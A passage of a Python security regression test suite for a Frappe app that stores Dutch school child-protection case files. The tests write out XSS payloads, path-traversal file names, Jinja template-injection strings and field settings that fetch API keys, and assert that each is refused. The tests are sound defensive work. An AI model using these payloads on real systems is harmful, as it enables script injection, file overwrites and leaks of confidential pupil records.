			frappe.get_doc(
				{
					"doctype": "Version",
					"ref_doctype": doctype,
					"docname": name,
					"data": json.dumps({"tekst": text}),
				}
			).insert(ignore_permissions=True)
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "Version", {"docname": ("in", (note.name, self.signal.name))})
		self.addCleanup(frappe.db.delete, "ToDo", {"name": todo.name})
		self.addCleanup(frappe.db.delete, "Note", {"name": note.name})
		teacher = api_token(staff_user("A", "Teacher"))
		frappe.db.commit()
		door = "frappe.workflow.doctype.workflow.workflow.get_workflow_state_count"
		status, answer = self.call(door, doctype="Version", workflow_state_field="data", states=["-"])
		self.assertEqual(status, 200, answer)
		self.assertIn("Zichtbare wijziging", json.dumps(answer), "the control: a version it may read")
		self.assertNotIn("Geheime wijziging", json.dumps(answer))
		for token in (self.token, teacher):
			frappe.db.rollback()
			status, answer = request_as(
				token, door, "post", doctype="ToDo", workflow_state_field="description", states=["-"]
			)
			self.assertNotIn("geheime dossier", json.dumps(answer))
		graph = {
			"title": "x",
			"doctype": "User",  # one's own user: the graph's own record, which Frappe checks
			"docname": SYSTEM_MANAGER,
			"goal_value_field": "first_name",
			"goal_total_field": "first_name",
			"goal_history_field": "first_name",
			"goal_doctype": "Version",
			"goal_doctype_link": "docname",
			"goal_field": "data",
			"date_field": "creation",
			"aggregation": "group_concat",
			"filters": json.dumps({"ref_doctype": ["like", "%"]}),
		}
		status, answer = self.call("frappe.utils.goal.get_monthly_goal_graph_data", **graph)
		self.assertNotIn("Geheime wijziging", json.dumps(answer))
		self.assertEqual(status, 403, answer)
		# the control: a DocType its reader lists whole
		roles = {
			**graph,
			"goal_doctype": "Role",
			"goal_doctype_link": "name",
			"goal_field": "name",
			"filters": "{}",
		}
		status, answer = self.call("frappe.utils.goal.get_monthly_goal_graph_data", **roles)
		self.assertEqual(status, 200, answer)

	def test_a_chart_source_is_the_bench_administrators(self):
		"""Round 198: Frappe writes a Dashboard Chart Source to the server's files at each save, at a
		path its name chooses: a System Manager who gave himself its create right wrote folders and
		JSON anywhere the bench may write. The control: his insert of a Note through the same door."""
		import shutil

		target = "/tmp/meldcode-chart-source-proef"
		self.addCleanup(shutil.rmtree, target, True)
		self.addCleanup(  # what a failed wall let through
			lambda: (
				frappe.db.delete("Dashboard Chart Source", {"name": ("like", "../%")}),
				frappe.db.commit(),
			)
		)
		perm = frappe.get_doc(
			{"doctype": "Custom DocPerm", "parent": "Dashboard Chart Source", "role": "System Manager"}
		)
		perm.update({"read": 1, "write": 1, "create": 1})
		perm.db_insert()
		self.addCleanup(lambda: (frappe.db.delete("Custom DocPerm", {"name": perm.name}), frappe.db.commit()))
		frappe.clear_cache(doctype="Dashboard Chart Source")
		frappe.db.commit()
		source = {
			"doctype": "Dashboard Chart Source",
			"source_name": "../" * 12 + target[1:] + "/.",
			"module": "Desk",
		}
		status, answer = self.call("frappe.client.insert", doc=source)
		self.assertEqual(status, 403, answer)
		self.assertFalse(os.path.exists(target))
		note = {"doctype": "Note", "title": f"Proef {frappe.generate_hash(length=6)}"}
		status, answer = self.call("frappe.client.insert", doc=note)
		self.assertEqual(status, 200, f"the control: {answer}")
		frappe.delete_doc("Note", answer["name"], force=True)
		frappe.db.commit()

	def test_no_record_is_written_to_files_at_a_path_its_name_chooses(self):
		"""Round 205: Frappe writes a Website Theme's stylesheet at a path its name chooses, and a
		Package Release every record of its modules: a System Manager's theme named "../../x" wrote
		CSS and overwrote JSON anywhere the bench may write, through a module made as not custom
		("Meldcode-App", the app's own folder to Frappe). The controls: a theme, a module of his
		own with plain names."""
		import shutil

		target = "/tmp/meldcode_thema_proef"  # as Frappe scrubs the name
		self.addCleanup(shutil.rmtree, target, True)
		role = frappe.get_doc({"doctype": "Has Role", "parenttype": "User", "parentfield": "roles"})
		role.update({"parent": SYSTEM_MANAGER, "role": "Website Manager"})
		role.db_insert()
		frappe.clear_cache(user=SYSTEM_MANAGER)

		def remove_what_he_made():  # and whatever a failed wall let through
			frappe.db.delete("Has Role", {"name": role.name})
			frappe.db.delete("Website Theme", {"owner": SYSTEM_MANAGER})
			frappe.db.delete("Module Def", {"owner": SYSTEM_MANAGER})
			frappe.db.delete("Package", {"owner": SYSTEM_MANAGER})
			frappe.clear_cache(user=SYSTEM_MANAGER)
			frappe.db.commit()

		self.addCleanup(remove_what_he_made)
		frappe.db.commit()
		outside = "../" * 12 + target[1:] + "/x"
		for doc in (
			{"doctype": "Website Theme", "theme": outside, "module": "Website", "custom": 1},
			{"doctype": "Module Def", "module_name": outside, "app_name": "frappe", "custom": 1},
			{"doctype": "Module Def", "module_name": "Meldcode-App", "app_name": "meldcode_app", "custom": 0},
			{"doctype": "Package", "name": "proefpakket", "package_name": "proefpakket", "readme": "x"},
		):
			status, answer = self.call("frappe.client.insert", doc=doc)
			self.assertEqual(status, 403, f"{doc}: {answer}")
		self.assertFalse(os.path.exists(target))
		for doc in (
			{"doctype": "Module Def", "module_name": "Eigen Proefmodule", "app_name": "frappe", "custom": 1},
			{"doctype": "Website Theme", "theme": "Eigen Proefthema", "module": "Website", "custom": 1},
		):
			status, answer = self.call("frappe.client.insert", doc=doc)
			self.assertEqual(status, 200, f"the control: {answer}")

	def test_an_imported_or_planted_notification_acts_on_no_case(self):
		"""Round 38: a System Manager's Package Import inserted notifications on the dossiers with
		their validation skipped (Frappe's import_doc), and they sent a dossier's pupil and comments
		to a webhook whenever the case team opened it, and the day's signals every day."""
		from frappe.modules.import_file import import_doc

		status, answer = self.call("frappe.client.insert", doc={"doctype": "Package Import", "activate": 0})
		self.assertEqual(status, 403, answer)
		notification = {
			"doctype": "Notification",
			"subject": "Meldcode lektest {{ doc.name }}",
			"event": "Save",
			"channel": "System Notification",
			"enabled": 1,
			"message": "{{ doc.name }}",
			"recipients": [{"receiver_by_document_field": "owner"}],
		}
		imported = {**notification, "name": "Meldcode Sandbox Imported", "document_type": "Meldcode Dossier"}
		self.assertRaises(frappe.PermissionError, as_user(SYSTEM_MANAGER), import_doc, imported)
		self.assertFalse(frappe.db.exists("Notification", imported["name"]))
		# However one got there, it sends nothing of a case record; the same on a ToDo does.
		for target in ("Meldcode Dossier", "ToDo"):
			planted = frappe.get_doc(
				{**notification, "name": f"Meldcode Sandbox {target}", "document_type": target}
			)
			planted.db_insert()
			for row in planted.recipients:
				row.db_insert()
			frappe.cache.hdel("notifications", target)
			# Frappe caches each DocType's notifications: rolled back, they must not stay there
			# (cleanups run after tearDown's rollback, last added first).
			self.addCleanup(frappe.cache.hdel, "notifications", target)
		todo = frappe.get_doc({"doctype": "ToDo", "description": "Meldcode lektest"}).insert(
			ignore_permissions=True
		)
		todo.db_set("owner", SYSTEM_MANAGER)
		dossier = frappe.get_doc("Meldcode Dossier", self.dossier)
		for record in (todo, dossier):
			record.reload()
			record.flags.ignore_permissions = True
			record.save()
		told = frappe.get_all("Notification Log", {"subject": ("like", "%lektest%")}, pluck="document_type")
		self.assertEqual(told, ["ToDo"])

		def of_today(target):  # the daily job's search for its records
			planted = frappe.get_doc("Notification", f"Meldcode Sandbox {target}")
			planted.update({"event": "Days After", "date_changed": "creation", "days_in_advance": 0})
			return [doc.name for doc in planted.get_documents_for_today()]

		self.assertIn(todo.name, of_today("ToDo"))
		self.assertEqual(of_today("Meldcode Dossier"), [])

	def test_no_automation_sends_a_trace_of_a_case(self):
		"""Round 40: a System Manager's notification on File sent a dossier's attachments (the
		inspection copy's PDF, in the file's content while it is inserted) to Slack; one on
		Workflow Action and ToDo its steps and terms. Files of other records are still sent."""
		from meldcode_app.access.automations import WEBHOOK_JOB, keep_webhooks_off_cases

		notification = {
			"doctype": "Notification",
			"name": "Meldcode Sandbox File",
			"document_type": "File",
			"event": "New",
			"channel": "System Notification",
			"subject": "Meldcode lektest {{ doc.file_name }}",
			"enabled": 1,
			"recipients": [{"receiver_by_role": "System Manager"}],
		}
		status, answer = self.call("frappe.client.insert", doc=notification)
		self.assertEqual(status, 200, answer)
		self.addCleanup(frappe.cache.hdel, "notifications", "File")  # cached per DocType: last
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "Notification", {"name": notification["name"]})
		note = frappe.get_doc({"doctype": "Note", "title": "Meldcode lektest"}).insert()

		def attached(doctype, name, file_name):
			return frappe.get_doc(
				{
					"doctype": "File",
					"file_name": file_name,
					"attached_to_doctype": doctype,
					"attached_to_name": name,
					"content": b"geheim verslag",
					"is_private": 1,
				}
			).insert(ignore_permissions=True)

		of_case = attached("Meldcode Dossier", self.dossier, "verslag-dossier.txt")
		of_note = attached("Note", note.name, "verslag-notitie.txt")
		subjects = frappe.get_all("Notification Log", {"subject": ("like", "%lektest%")}, pluck="subject")
		self.assertTrue(subjects, "the positive control: a note's file is told")
		self.assertFalse([s for s in subjects if "dossier" in s], subjects)
		# A webhook's job (run by a worker) sends neither.
		self.assertIn(
			"meldcode_app.access.automations.keep_webhooks_off_cases", frappe.get_hooks("before_job")
		)
		with self.assertRaises(frappe.PermissionError):
			keep_webhooks_off_cases(method=WEBHOOK_JOB, kwargs={"doc": of_case, "webhook": {}})
		keep_webhooks_off_cases(method=WEBHOOK_JOB, kwargs={"doc": of_note, "webhook": {}})
		# Nor does a server script's document event run for it.
		script = frappe.get_doc(
			{
				"doctype": "Server Script",
				"script_type": "DocType Event",
				"reference_doctype": "File",
				"doctype_event": "After Insert",
				"script": "doc.file_name = 'gezien door een script'",
			}
		)
		with patch("frappe.utils.safe_exec.is_safe_exec_enabled", return_value=True):
			named = of_case.file_name
			script.execute_doc(of_case)
			self.assertEqual(of_case.file_name, named)
			script.execute_doc(of_note)
			self.assertEqual(of_note.file_name, "gezien door een script", "the control")

	def test_a_mails_addresses_hold_no_markup(self):
		"""Round 40: a recipient "<img src=x onerror=…>" of a message made with Frappe's email.make
		ran a script in the timeline of whoever opened the record."""
		todo = frappe.get_doc({"doctype": "ToDo", "description": "Meldcode adrestest"}).insert()
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "Communication", {"reference_name": todo.name})
		self.addCleanup(frappe.db.delete, "ToDo", {"name": todo.name})

		def recipients(value):
			status, answer = self.call(
				"frappe.core.doctype.communication.email.make",
				doctype="ToDo",
				name=todo.name,
				content="Herinnering",
				subject="Herinnering",
				communication_type="Automated Message",
				send_email=0,
				recipients=value,
			)
			self.assertEqual(status, 200, answer)
			return frappe.db.get_value("Communication", answer["name"], "recipients")

		self.assertEqual(recipients("<img src=x onerror=alert(1)>, ib@school.nl"), "ib@school.nl")
		# Round 41: an "address" whose entities spell a script, run by its element's event.
		self.assertEqual(recipients("<details/open/ontoggle=&#97&#108//@b.co>, ib@school.nl"), "ib@school.nl")
		self.assertEqual(recipients("Jan de Vries <jan@example.nl>"), "Jan de Vries <jan@example.nl>")

	def test_the_global_search_finds_only_what_its_reader_may_read_as_text(self):
		"""Round 42: Frappe's global search listed a case's term ToDo to anyone who searched
		("Veilig Thuis decision expected of dossier …"), and a note's "&lt;img … onerror=", which
		Frappe unescapes when it indexes, ran in the case team's results."""
		from frappe.utils.global_search import sync_value

		director_b = staff_user("B", "Director")
		todos = [
			frappe.get_doc(
				{
					"doctype": "ToDo",
					"description": description,
					"allocated_to": director_b,
					"reference_type": reference[0],
					"reference_name": reference[1],
				}
			).insert(ignore_permissions=True)
			for description, reference in (
				("Termijn zoekproefmeldcode van het dossier", ("Meldcode Dossier", self.dossier)),
				("<img src=x onerror=alert(1)> zoekproefmeldcode", (None, None)),
			)
		]
		for todo in todos:
			sync_value(
				{
					"doctype": "ToDo",
					"name": todo.name,
					"content": f"Description : {todo.description}",
					"published": 0,
					"title": todo.name,
					"route": "",
				}
			)
		tokens = {user: api_token(user) for user in (staff_user("A", "Teacher"), director_b)}
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		for todo in todos:
			self.addCleanup(frappe.db.delete, "ToDo", {"name": todo.name})
			self.addCleanup(frappe.db.delete, "__global_search", {"name": todo.name})

		def found(user):
			status, answer = request_as(
				tokens[user], "frappe.utils.global_search.search", "post", text="zoekproefmeldcode"
			)
			self.assertEqual(status, 200, answer)
			return {row["name"]: row["content"] for row in answer}

		self.assertEqual(found(staff_user("A", "Teacher")), {})
		mine = found(director_b)  # the positive control: who the ToDos are for finds them
		self.assertEqual(set(mine), {todo.name for todo in todos})
		self.assertIn("&lt;img", mine[todos[1].name])
		self.assertNotIn("<img", mine[todos[1].name])

	def test_an_upload_tells_nothing_of_a_case_file_with_the_same_content(self):
		"""Round 42: Frappe points a new file with the same content at the existing one, and the
		refusal when that was a case record's told whoever uploaded a copy that it was attached."""
		content = b"Verslag van het gesprek, meldcode kopie-proef."
		case_file = frappe.get_doc(
			{
				"doctype": "File",
				"file_name": "verslag.txt",
				"attached_to_doctype": "Meldcode Dossier",
				"attached_to_name": self.dossier,
				"content": content,
				"is_private": 1,
			}
		).insert(ignore_permissions=True)
		teacher = staff_user("A", "Teacher")
		for name, text in (("kopie.txt", content), ("ander.txt", b"Iets anders.")):
			copy = frappe.get_doc({"doctype": "File", "file_name": name, "content": text, "is_private": 1})
			as_user(teacher)(copy.insert)
			self.assertNotEqual(copy.file_url, case_file.file_url)
		self.assertEqual(as_user(teacher)(frappe.get_doc("File", copy.name).get_content), "Iets anders.")
		# Round 103: a second copy took the first one's address where no case file had its content,
		# and one of its own where one had: a copy shares a file its uploader may read, whatever
		# else has the same content
		for text in (content, b"Iets anders."):
			copies = [
				frappe.get_doc(
					{"doctype": "File", "file_name": "kopie.txt", "content": text, "is_private": 1}
				)
				for _copy in range(2)
			]
			for copy in copies:
				as_user(teacher)(copy.insert)
			self.assertEqual(copies[0].file_url, copies[1].file_url, text)
			self.assertNotEqual(copies[0].file_url, case_file.file_url, text)
		# Round 45: a copy named by the address of a case record's file, or of the site's own
		# configuration, is refused (Frappe reads whatever the address names inside the site), as
		# one of a file that is not there (round 46: a refusal of our own told it was a case's).
		answers = {}
		missing = "/private/files/bestaat-niet.txt"
		for address in (
			missing,
			case_file.file_url,
			"/private/files/../../site_config.json",
			"/files/./verslag.txt",
		):
			named = frappe.get_doc(
				{"doctype": "File", "file_url": address, "file_name": "mijn.txt", "is_private": 1}
			)
			with self.assertRaises(frappe.DoesNotExistError) as refused:
				as_user(teacher)(named.insert)
			answers[address] = str(refused.exception).replace(address, "{0}")
		self.assertEqual(set(answers.values()), {answers[missing]}, answers)
		self.assertIn("{0}", answers[missing])

	def test_an_onboarding_step_takes_no_markup_past_its_form(self):
		"""Round 39: Frappe's update_onboarding_step set any field of a step for any user, past
		every hook: a script in a step's description ran in the case team's desk."""
		step = "Meldcode Settings Step"
		description = frappe.db.get_value("Onboarding Step", step, "description")
		door = "frappe.desk.desktop.update_onboarding_step"
		planted = "<img src=x onerror=alert(1)>"
		try:
			status, answer = self.call(door, name=step, field="description", value=planted)
			self.assertEqual(status, 403, answer)
			self.assertEqual(frappe.db.get_value("Onboarding Step", step, "description"), description)
			status, answer = self.call(door, name=step, field="is_complete", value=1)
			self.assertEqual(status, 200, "the positive control: the desk marks a step done")
			frappe.db.rollback()
			self.assertEqual(frappe.db.get_value("Onboarding Step", step, "is_complete"), 1)
		finally:
			frappe.db.set_value("Onboarding Step", step, {"description": description, "is_complete": 0})
			frappe.db.commit()

	def test_what_a_template_leaves_for_the_commit_is_judged_as_the_template(self):
		"""A template may hand a query to the database to run at commit or rollback, after it
		returned: that query is refused as the template's own would be (a template changes
		nothing, round 14), also when it writes a harmless table; the same template's read of a
		harmless table, not deferred, renders (the positive control)."""
		status, answer = self.preview(f"{{{{ frappe.get_all({SCHOOL}, pluck='name') }}}}")
		self.assertIn(SCHOOL_B, json.dumps(answer), "the positive control")
		note = frappe.get_doc({"doctype": "Note", "title": "meldcode-sandbox-note", "public": 1}).insert(
			ignore_permissions=True
		)
		frappe.db.commit()
		deferred = (
			"{% set F = frappe.qb.functions %}{% set n = frappe.qb.DocType('Note') %}"
			"{% set s = frappe.qb.DocType(TARGET) %}"
			"{% set sub = frappe.qb.from_(s).select(F('GROUP_CONCAT', s.FIELD)) %}"
			"{{ frappe.db.before_commit.add(frappe.qb.update(n).set(n.content, F('COALESCE', sub, 'geen'))"
			f".where(n.name == '{note.name}').run) }}}}"
		)
		try:
			for target, field in (("Meldcode School", "name"), ("Meldcode Dossier", "pupil_name")):
				frappe.db.set_value("Note", note.name, "content", "")
				frappe.db.commit()
				template = deferred.replace("TARGET", repr(target)).replace("FIELD", field)
				self.preview(template)
				frappe.db.rollback()  # a fresh snapshot: the request committed in its own transaction
				self.assertEqual(frappe.db.get_value("Note", note.name, "content") or "", "", target)
		finally:
			frappe.db.delete("Note", {"name": note.name})
			frappe.db.commit()

	def test_no_setting_copies_or_shows_a_key_of_another_record(self):
		"""Round 47: a System Manager's Property Setter fetch_from "allocated_to.api_key" on ToDo
		copied the aandachtsfunctionaris's API key into a ToDo for them (tried here on a Contact's
		user: no customisation of a ToDo is a System Manager's since round 58)."""
		setter = {
			"doctype": "Property Setter",
			"doctype_or_field": "DocField",
			"doc_type": "Contact",
			"field_name": "company_name",
			"property": "fetch_from",
			"property_type": "Small Text",
		}
		for source in ("user.api_key", "user.reset_password_key", "user.`API_KEY`"):
			status, answer = self.call("frappe.client.insert", doc={**setter, "value": source})
			self.assertEqual(status, 403, f"{source}: {answer}")
		field = {
			"doctype": "Custom Field",
			"dt": "Contact",
			"fieldtype": "Data",
			"fetch_from": "user.api_secret",
		}
		status, answer = self.call(
			"frappe.client.insert", doc={**field, "label": "Sleutel", "fieldname": "meldcode_sleutel"}
		)
		self.assertEqual(status, 403, answer)
		status, answer = self.call("frappe.client.insert", doc={**setter, "value": "user.full_name"})
		self.assertEqual(status, 200, f"the positive control: a person's name: {answer}")
		frappe.delete_doc("Property Setter", answer["name"], force=True)
		frappe.db.commit()
		# Round 53: User's title field set to a key field; Frappe's link title (for anyone) showed it.
		title = {
			"doctype": "Property Setter",
			"doctype_or_field": "DocType",
			"doc_type": "User",
			"property": "title_field",
			"property_type": "Data",
		}
		for value in ("api_key", "reset_password_key"):
			status, answer = self.call("frappe.client.insert", doc={**title, "value": value})
			self.assertEqual(status, 403, f"{value}: {answer}")
		# the control on Contact: User is one of Frappe's core DocTypes (round 193)
		status, answer = self.call(
			"frappe.client.insert", doc={**title, "doc_type": "Contact", "value": "full_name"}
		)
		self.assertEqual(status, 200, f"the positive control: a person's name as the title: {answer}")
		kept = answer["name"]
		status, answer = self.call(
			"frappe.client.set_value",
			doctype="Property Setter",
			name=kept,
			fieldname="value",
			value="api_key",
		)
		self.assertEqual(status, 403, f"changed afterwards: {answer}")
		frappe.db.set_value("Property Setter", kept, "value", "api_key")  # as set before the rule
		from meldcode_app.patches import no_settings_naming_key_fields

		no_settings_naming_key_fields.execute()
		self.assertFalse(frappe.db.exists("Property Setter", kept), "it goes with the update")
		# An OAuth client's secret is plain text: its DocType is the bench's Administrator's to change.
		secret = {**title, "doc_type": "OAuth Client", "value": "client_secret"}
		status, answer = self.call("frappe.client.insert", doc=secret)
		self.assertEqual(status, 403, answer)
		grant = {"doctype": "Custom DocPerm", "parent": "OAuth Client", "role": "Blogger", "read": 1}
		self.assertEqual(self.call("frappe.client.insert", doc=grant)[0], 403)
		# Round 54: a link to fetch the secret from, and a currency whose symbol is a linked key.
		custom = {"doctype": "Custom Field", "dt": "Contact", "insert_after": "company_name"}
		for field in (
			{"fieldname": "meldcode_app_client", "fieldtype": "Link", "options": "OAuth Client"},
			{"fieldname": "meldcode_uren", "fieldtype": "Currency", "options": "User:user:api_key"},
			{
				"fieldname": "meldcode_uren",
				"fieldtype": "Currency",
				"options": "OAuth Client:x:client_secret",
			},
		):
			status, answer = self.call("frappe.client.insert", doc={**custom, **field})
			self.assertEqual(status, 403, f"{field}: {answer}")
		named = {
			"fieldname": "meldcode_uren",
			"fieldtype": "Currency",
			"options": "User:user:full_name",
		}
		status, answer = self.call("frappe.client.insert", doc={**custom, **named})
		self.assertEqual(status, 200, f"the positive control: a person's name as the symbol: {answer}")
		frappe.delete_doc("Custom Field", answer["name"], force=True)
		frappe.db.commit()
		frappe.db.delete("Property Setter", {"doc_type": "User", "property": "title_field"})
		frappe.db.commit()

	def test_no_field_fetches_from_a_case_record(self):
		"""A field that fetches from a linked record, also through a Dynamic Link whose DocType the
		record names, never reaches a case record (Frappe fetches without a permission check)."""
		fields = (
			{"fieldname": "meldcode_test_dt", "fieldtype": "Link", "options": "DocType"},
			{"fieldname": "meldcode_test_doc", "fieldtype": "Dynamic Link", "options": "meldcode_test_dt"},
			{
				"fieldname": "meldcode_test_fetched",
				"fieldtype": "Data",
				"fetch_from": "meldcode_test_doc.name",
			},
		)
		for field in fields:
			frappe.get_doc(
				{"doctype": "Custom Field", "dt": "ToDo", "label": field["fieldname"], **field}
			).insert()
		frappe.db.commit()
		token = api_token(staff_user("A", "Teacher"))
		frappe.db.commit()
		try:
			for target, name, leaks in (
				("Role", "Blogger", False),  # any DocType of the app is out of reach too (round 66)
				("Meldcode Dossier", self.dossier, True),
			):
				frappe.db.rollback()
				status, answer = request_as(
					token,
					"frappe.client.insert",
					"post",
					doc={
						"doctype": "ToDo",
						"description": "Eigen taak",
						"allocated_to": staff_user("A", "Teacher"),
						"meldcode_test_dt": target,
						"meldcode_test_doc": name,
					},
				)
				if leaks:
					self.assertNotEqual(status, 200, answer)
					self.assertNotIn(PUPIL, str(answer))
				else:
					self.assertEqual(status, 200, f"the positive control: {answer}")
					self.assertEqual(answer["meldcode_test_fetched"], "Blogger")
					frappe.db.delete("ToDo", {"name": answer["name"]})
					frappe.db.commit()
		finally:
			for field in fields:
				frappe.delete_doc("Custom Field", f"ToDo-{field['fieldname']}", force=True)
			frappe.db.commit()

	def test_older_automations_are_switched_off_and_shown_to_the_board(self):
		from meldcode_app.meldcode_app.report.meldcode_automations_on_case_records import (
			meldcode_automations_on_case_records as report,
		)
		from meldcode_app.patches import automations_off_case_records

		older = frappe.get_doc(
			{
				"doctype": "Notification",
				"name": "Meldcode Sandbox Older Notification",
				"subject": "x",
				"document_type": "Meldcode Dossier",
				"event": "Save",
				"channel": "System Notification",
				"enabled": 1,
			}
		)
		older.owner, older.creation = SYSTEM_MANAGER, frappe.utils.now()
		older.db_insert()  # as stored before the app refused it
		automations_off_case_records.execute()
		self.assertEqual(frappe.db.get_value("Notification", older.name, "enabled"), 0)
		rows = as_user(BOARD_USER)(report.execute)[1]
		shown = {(row["record"], row["state"]) for row in rows}
		self.assertIn((older.name, "Uitgeschakeld"), shown)
		self.assertIn(("Gespreksverslag", "Actief"), shown, "the app's own print formats are listed too")

	@unittest.skipUnless("erpnext" in frappe.get_installed_apps(), "ERPNext is not installed on this bench")
	def test_erpnexts_terms_and_contract_templates_read_no_case(self):
		"""ERPNext renders a stored template for any desk user, checking no permission."""
		teacher = api_token(staff_user("A", "Teacher"))
		frappe.db.commit()
		for doctype, field, method, title in (
			(
				"Terms and Conditions",
				"terms",
				"erpnext.setup.doctype.terms_and_conditions.terms_and_conditions.get_terms_and_conditions",
				"title",
			),
			(
				"Contract Template",
				"contract_terms",
				"erpnext.crm.doctype.contract_template.contract_template.get_contract_template",
				"title",
			),
		):
			for target, leak in ((SCHOOL, SCHOOL_B), (DOSSIER, PUPIL)):
				template = frappe.get_doc(
					{
						"doctype": doctype,
						title: f"Meldcode sandbox {target[-9:-1]}",
						field: f"{{{{ frappe.get_all({target}, fields=['*']) }}}}",
						# ERPNext asks for a module the terms apply to (and reads an HR one otherwise)
						**({"selling": 1} if doctype == "Terms and Conditions" else {}),
					}
				).insert(ignore_permissions=True)
				frappe.db.commit()
				try:
					status, answer = request_as(
						teacher, method, "post", template_name=template.name, doc="{}"
					)
					if leak == SCHOOL_B:
						self.assertIn(SCHOOL_B, str(answer), f"the positive control: {doctype}")
					else:
						self.assertNotIn(PUPIL, str(answer), doctype)
				finally:
					frappe.db.delete(doctype, {"name": template.name})
					frappe.db.commit()

	def test_a_fetch_chain_through_a_custom_doctype_reads_no_case(self):
		"""Found by an attack: a DocType of the site whose Dynamic Link takes its DocType from a
		harmless record (a print format's doc_type) and fetches a case record's text, which Frappe's
		link check reads before any hook and names in its error."""
		doctype = "Meldcode Sandbox Chain"
		frappe.get_doc(
			{
				"doctype": "DocType",
				"name": doctype,
				"module": "Custom",
				"custom": 1,
				"autoname": "hash",
				"permissions": [{"role": "System Manager", "read": 1, "write": 1, "create": 1}],
				"fields": [
					{"fieldname": "pf", "label": "PF", "fieldtype": "Link", "options": "Print Format"},
					{
						"fieldname": "dt",
						"label": "DT",
						"fieldtype": "Link",
						"options": "DocType",
						"fetch_from": "pf.doc_type",
					},
					{"fieldname": "dn", "label": "DN", "fieldtype": "Dynamic Link", "options": "dt"},
					{"fieldname": "dt2", "label": "DT2", "fieldtype": "Link", "options": "DocType"},
					{
						"fieldname": "leak",
						"label": "Leak",
						"fieldtype": "Dynamic Link",
						"options": "dt2",
						"fetch_from": "dn.pupil_name",
					},
				],
			}
		).insert()
		frappe.db.commit()
		try:
			answers = []
			for name in (self.dossier, "MD-BESTAAT-NIET"):
				frappe.db.rollback()
				status, answer = request_as(
					self.token,
					"frappe.client.insert",
					"post",
					doc={"doctype": doctype, "pf": "Logboek voor signalen", "dn": name, "dt2": "Role"},
				)
				self.assertNotIn(PUPIL, str(answer))
				answers.append((status, str(answer).replace(name, "X")))
			self.assertNotEqual(answers[0][0], 200)
			self.assertEqual(answers[0], answers[1], "an existing dossier is told apart from a made-up one")
		finally:
			frappe.delete_doc("DocType", doctype, force=True)
			frappe.db.commit()

	def test_the_apps_jinja_methods_serve_only_the_apps_own_prints(self):
		"""Found by an attack: a notification the scheduler renders as Administrator called the
		app's own Jinja method to list a dossier's signals."""
		template = "{% for s in meldcode_signals_of({'doctype': 'Meldcode Dossier', 'name': NAME}) %}{{ s.situation }}{% endfor %}"
		rendered = frappe.render_template(template.replace("NAME", repr(self.dossier)), {})
		self.assertNotIn("Onveranderde tekst", rendered)
		logboek = frappe.get_print("Meldcode Dossier", self.dossier, "Logboek voor signalen")
		self.assertIn("Onveranderde tekst", logboek, "the positive control: the app's own Logboek")

	def test_a_letter_head_of_the_site_sees_no_case_record(self):
		"""Found by an attack: Frappe renders the site's default letter head as Jinja with the printed
		record in its context, also around the app's own formats; and the school's letter head the
		app prints carried a script."""
		for name, content in (
			("Meldcode Sandbox Default", "LH:{{ doc.name }}:LH"),
			(
				"Meldcode Sandbox School",
				'<b>Regenboog</b><img src="x" onerror="alert(1)">'
				# round 85: a picture from another site, a link over the print, a table's background
				'<img src="https://elders.example/lh.png"><a href="https://elders.example/login">'
				'<img src="/files/groot.png" width="3000"></a><table background="https://elders.example/bg.png">'
				'<tr><td>Schoolstraat 1</td></tr></table><img src="/files/logo.png" width="150" style="width: 150px;">',
			),
		):
			frappe.db.delete("Letter Head", {"name": name})
			frappe.get_doc(
				{"doctype": "Letter Head", "letter_head_name": name, "source": "HTML", "content": "x"}
			).insert()
			frappe.db.set_value("Letter Head", name, "content", content)  # as written past Frappe's cleaning
		frappe.db.set_value("Letter Head", "Meldcode Sandbox Default", "is_default", 1)
		frappe.db.set_value("Meldcode School", SCHOOL_B, "letter_head", "Meldcode Sandbox School")
		af_b = api_token(staff_user("B", "Aandachtsfunctionaris"))
		frappe.db.commit()
		try:
			status, answer = request_as(
				self.token, "frappe.www.printview.get_html_and_style", "post", doc="User", name=SYSTEM_MANAGER
			)
			self.assertIn(f"LH:{SYSTEM_MANAGER}:LH", str(answer), "the positive control")
			status, answer = request_as(
				af_b,
				"frappe.www.printview.get_html_and_style",
				"post",
				doc="Meldcode Dossier",
				name=self.dossier,
				print_format="Logboek voor signalen",
			)
			self.assertEqual(status, 200, answer)
			self.assertIn("Regenboog", str(answer), "the school's letter head is printed")
			self.assertNotIn("onerror", str(answer))
			self.assertNotIn("elders.example", str(answer))
			self.assertIn("Schoolstraat 1", str(answer))
			self.assertIn('<img src="/files/logo.png" width="150" style="width: 150px;">', str(answer))
			self.assertNotIn("LH:", str(answer))
		finally:
			frappe.db.set_value("Meldcode School", SCHOOL_B, "letter_head", None)
			frappe.db.delete("Letter Head", {"name": ("like", "Meldcode Sandbox%")})
			frappe.db.commit()


NOTIFICATION = "Meldcode Sandbox Test Notification"


class TestWhatCodeChanges(MeldcodeTestCase):
	"""Round 14: a print format's template turned a Notification on ToDos into one on signals with
	``frappe.db.set_value`` (past the check that runs when a Notification is saved), and Frappe's
	"documents for today" of that Notification answered with the signal's text; an Auto Email
	Report "as the Administrator" read the Email Queue's login links."""

	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		frappe.set_user("Administrator")
		make_user(SYSTEM_MANAGER, "Systeem", "System Manager")
		cls.token = api_token(SYSTEM_MANAGER)
		cls.signal = make_signal("B", situation="Onveranderde tekst van school B.")
		frappe.get_doc(
			{
				"doctype": "Notification",
				"name": NOTIFICATION,
				"subject": "s",
				"document_type": "ToDo",
				"event": "Days After",
				"days_in_advance": 0,
				"date_changed": "creation",
				"channel": "System Notification",
				"enabled": 0,
				"message": "x",
				"recipients": [{"receiver_by_role": "System Manager"}],
			}
		).insert()
		frappe.db.commit()

	@classmethod
	def tearDownClass(cls):
		frappe.set_user("Administrator")
		remove_records_of_school(SCHOOL_B)
		frappe.db.delete("Notification", {"name": NOTIFICATION})
		frappe.db.delete("Print Format", {"name": FORMAT})
		frappe.db.delete("Auto Email Report", {"owner": SYSTEM_MANAGER})
		frappe.db.delete("Report", {"name": REPORT})
		frappe.db.commit()
		super().tearDownClass()

	def call(self, door, http="post", /, **params):
		frappe.db.rollback()
		return request_as(self.token, door, http, **params)

	def render(self, html, doctype="User", name=SYSTEM_MANAGER):
